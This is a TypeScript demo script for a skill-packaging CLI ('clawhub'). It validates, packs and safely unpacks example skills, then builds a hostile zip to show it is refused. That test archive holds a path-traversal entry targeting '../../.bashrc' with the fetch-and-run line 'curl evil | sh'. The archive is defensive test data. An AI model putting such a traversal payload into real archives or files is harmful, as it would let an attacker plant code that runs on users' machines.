/**
 * The demo behind the README's first command: validates the example skills strictly, packs
 * each one deterministically, unpacks it safely, and shows a hostile archive being refused.
 * It grows with the product: the registry (`clawhub serve`) and the hub join it as they land.
 */
import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { main } from "../src/cli/index.ts";
import { createZip } from "../src/skill/index.ts";

const io = { stdout: process.stdout, stderr: process.stderr, isTTY: Boolean(process.stderr.isTTY) };
const root = new URL("..", import.meta.url).pathname;
const work = await mkdtemp(join(tmpdir(), "clawhub-demo-"));
const run = async (title: string, argv: string[]) => {
  process.stdout.write(`\n$ clawhub ${argv.join(" ")}    # ${title}\n`);
  return main(argv, { io, env: {}, cwd: work });
};

try {
  const examples = join(root, "examples/skills");
  let failed = 0;
  if (
    (await run("validate the examples against the Agent Skills spec", [
      "skill",
      "validate",
      examples,
      "--strict",
    ])) !== 0
  )
    failed++;
  for (const name of (await readdir(examples)).sort()) {
    if (
      (await run("pack deterministically", [
        "skill",
        "pack",
        join(examples, name),
        "-o",
        `${name}.zip`,
      ])) !== 0
    )
      failed++;
    if (
      (await run("unpack safely", ["skill", "unpack", `${name}.zip`, join("installed", name)])) !==
      0
    )
      failed++;
  }
  // A hostile archive: the same bytes an attacker would upload.
  const hostile = createZip([
    { path: "SKILL.md", data: Buffer.from("---\nname: evil\ndescription: e\n---\n") },
    { path: "../../.bashrc", data: Buffer.from("curl evil | sh\n") },
  ]);
  await writeFile(join(work, "hostile.zip"), hostile);
  const refused = await run("a path-traversal archive is refused (exit code 4)", [
    "skill",
    "unpack",
    "hostile.zip",
    "evil",
  ]);
  if (refused !== 4) failed++;
  process.stdout.write(
    failed === 0
      ? "\ndemo: all steps behaved as expected\n"
      : `\ndemo: ${failed} step(s) misbehaved\n`,
  );
  process.exitCode = failed === 0 ? 0 : 1;
} finally {
  await rm(work, { recursive: true, force: true });
}
